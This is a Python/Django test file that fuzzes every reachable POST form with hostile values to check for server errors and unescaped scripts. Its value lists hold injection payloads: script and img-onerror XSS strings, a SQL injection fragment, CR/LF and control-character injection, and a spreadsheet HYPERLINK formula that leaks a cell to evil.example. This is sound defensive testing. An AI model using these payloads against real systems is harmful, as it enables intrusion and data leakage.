"""The form fuzz (issue #14, 8), bounded for the suite: every form the personas can reach (found by crawling
every URL pattern as each of them, so a new form is fuzzed the day it is added) is posted a fixed set of
hostile values chosen by field type — overlong text, control characters, a NUL byte, huge and malformed
numbers, year 9999 and impossible dates, unicode, scripts, formulas, values outside the choices. No answer may
be a 500 (the test client re-raises server errors), and no script typed in may come back unescaped, on the
answer or on the page shown afterwards.

Bounded: ``FUZZ_ROUNDS`` rounds (default 1) in which each field gets a different value of its list, shifted
from form to form so that every value of every list is posted somewhere; a form two personas see is posted
once. The long version (every value in every field, each persona) runs by hand: ``scripts/fuzz_forms.sh``.
"""

import os
import re
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

from django.db import transaction

from tests.core.test_crawl import every_pattern, urls_for, world  # noqa: F401  (world: the crawl's fixture)

ROUNDS = int(os.environ.get("FUZZ_ROUNDS", "1"))
PERSONAS = os.environ.get("FUZZ_PERSONAS", "coordinator,advisor,entrepreneur,board").split(",")
SCRIPT = "<script>alert('fuzz-{n}')</script>"
TEXT = [
    SCRIPT,
    "x" * 20_000,  # overlong
    "a\x00b",  # NUL byte
    "\x01\x07\x1b[31m\u202eevil\r\ninjected: yes",  # control characters, bidi override, CR/LF
    "Ωmega 😀 ﷽ e\u0301 \ufeff",  # unicode
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "' OR 1=1 -- \"><img src=x onerror=alert(1)>",
    "",
]
NUMBER = ["1e400", "-99999999999999999999", "9" * 40, "NaN", "½", "-1", "0x10", ""]
DATE = ["9999-12-31", "0001-01-01", "2026-02-30", "31/12/2026", "99999-01-01", ""]
TIME = ["25:61", "99:99:99", "\x00", ""]
CHOICE = ["987654", "-1", "\x00", "<script>", ""]
CHECK = ["on", "\x00", "999999"]


class Forms(HTMLParser):
    """The POST forms of a page: action and fields (name, kind, value, options)."""

    def __init__(self):
        super().__init__()
        self.forms: list[dict] = []
        self.current: dict | None = None
        self.select: dict | None = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form" and (attrs.get("method") or "").lower() == "post":
            self.current = {"action": attrs.get("action") or "", "fields": [], "files": False}
            self.forms.append(self.current)
        elif self.current is None:
            return
        elif tag == "input" and attrs.get("name"):
            kind = (attrs.get("type") or "text").lower()
            if kind == "file":
                self.current["files"] = True
            elif kind not in ("submit", "button", "image", "reset"):
                self.current["fields"].append(
                    {"name": attrs["name"], "kind": kind, "value": attrs.get("value") or "", "options": []}
                )
        elif tag == "textarea" and attrs.get("name"):
            self.current["fields"].append({"name": attrs["name"], "kind": "text", "value": "", "options": []})
        elif tag == "select" and attrs.get("name"):
            self.select = {"name": attrs["name"], "kind": "select", "value": "", "options": []}
            self.current["fields"].append(self.select)
        elif tag == "option" and self.select is not None:
            self.select["options"].append(attrs.get("value") or "")

    def handle_endtag(self, tag):
        if tag == "form":
            self.current = None
        elif tag == "select":
            self.select = None


def hostile(field: dict, round_: int, index: int, marker: int) -> str:
    kind = field["kind"]
    if kind == "hidden":
        return field["value"]  # formset counters, one-time keys, the CSRF token: kept
    values = {
        "number": NUMBER,
        "date": DATE,
        "time": TIME,
        "datetime-local": DATE,
        "select": CHOICE + field["options"][:1],
        "checkbox": CHECK,
        "radio": [*CHECK, field["value"]],
    }.get(kind, TEXT)
    value = values[(round_ + index) % len(values)]
    return SCRIPT.format(n=marker) if value == SCRIPT else value


def discover(clients: dict, world: dict) -> list[tuple[str, str, dict]]:  # noqa: F811
    """(persona, page, form) for each distinct form (by action and field names) the personas reach."""
    found, seen = [], set()
    for route in every_pattern():
        for url in urls_for(route, world)[:1]:  # the existing object only
            for persona, client in clients.items():
                response = client.get(url)
                if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
                    continue
                parser = Forms()
                parser.feed(response.content.decode())
                for form in parser.forms:
                    action = urlsplit(urljoin(url, form["action"])).path
                    if action.endswith(("/logout/", "/i18n/setlang/", "/language/")):
                        continue  # signing out or switching language would only stop the fuzz
                    # The same form seen by two personas is fuzzed once (as the first: the coordinator's reach
                    # is the widest); FUZZ_EVERY_PERSONA=1 fuzzes it as each.
                    who = persona if os.environ.get("FUZZ_EVERY_PERSONA") else ""
                    key = (who, re.sub(r"\d+", "N", action), tuple(sorted(f["name"] for f in form["fields"])))
                    if key not in seen:
                        seen.add(key)
                        found.append((persona, url, {**form, "action": action}))
    return found


def test_every_form_survives_hostile_values(personas, world, client_for):  # noqa: F811
    clients = {name: client_for(getattr(personas, name)) for name in PERSONAS}
    forms = discover(clients, world)
    # The walk must find the forms, so that it cannot silently fuzz nothing.
    actions = {form["action"] for _persona, _page, form in forms}
    assert len(forms) >= 40, sorted(actions)
    assert any("/payments/" in action for action in actions) or any("/pay" in action for action in actions)
    posted = 0
    marker = 0
    for number, (persona, page, form) in enumerate(forms):
        client = clients[persona]
        for round_ in range(number, number + ROUNDS):
            marker += 1
            data: dict[str, list[str]] = {}
            for index, field in enumerate(form["fields"]):
                data.setdefault(field["name"], []).append(hostile(field, round_, index, marker))
            with transaction.atomic():
                response = client.post(form["action"], data)
                assert response.status_code < 500, (persona, form["action"], round_, response.status_code)
                script = SCRIPT.format(n=marker)
                pages = [response]  # a refused form: the page again, with what was typed
                if response.status_code in (301, 302, 303) and response["Location"].startswith("/"):
                    pages.append(client.get(response["Location"]))  # what was saved, shown
                    pages.append(client.get(page))
                for shown in pages:
                    assert shown.status_code < 500, (persona, form["action"], shown.status_code)
                    assert script.encode() not in shown.content, (persona, form["action"], "script unescaped")
                transaction.set_rollback(True)
            posted += 1
    assert posted >= 40 * ROUNDS
